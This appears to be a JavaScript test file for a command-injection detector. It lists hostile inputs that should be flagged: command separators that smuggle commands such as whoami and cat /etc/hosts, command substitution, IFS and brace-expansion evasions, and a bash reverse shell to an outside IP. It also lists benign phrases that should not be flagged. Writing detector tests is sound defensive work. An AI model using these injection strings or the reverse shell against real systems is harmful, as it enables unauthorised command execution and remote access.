import { test } from 'node:test';
import { detectCmdi } from './cmdi.js';
import { expectDetector } from './detectors.testkit.js';

test('cmdi: a separator followed by a command; English words only with shell-like arguments', () => {
  expectDetector(detectCmdi, [
    ['a.txt; uname -a', 'cmdi.separator'], ['x | cat /etc/hosts', 'cmdi.separator'], ['$(hostname)', 'cmdi.substitution'],
    ['`nc -l 9`', 'cmdi.substitution'], ['x;sleep 7', 'cmdi.separator'], ['a\nwhoami', 'cmdi.separator'], ['b && echo hi', 'cmdi.separator'],
    ['; /usr/bin/id', 'cmdi.separator'], ["; w'h'oami", 'cmdi.separator'], ['a;cat${IFS}x', 'cmdi.ifs'], ['{ls,-la}', 'cmdi.brace-expansion'],
    ['bash -i >& /dev/tcp/1.2.3.4/1 0>&1', 'cmdi.reverse-shell'],
  ], [
    'Tom & Jerry; cat lovers unite', 'Salt & pepper', 'Read this; sleep well tonight', 'Run `npm test` first', '| Name | Type |',
    'Mozilla/5.0 (X11; Linux x86_64)', 'a=1; b=2', 'R&D; echo chamber', 'Q&A', 'cats; dogs; birds',
  ]);
});
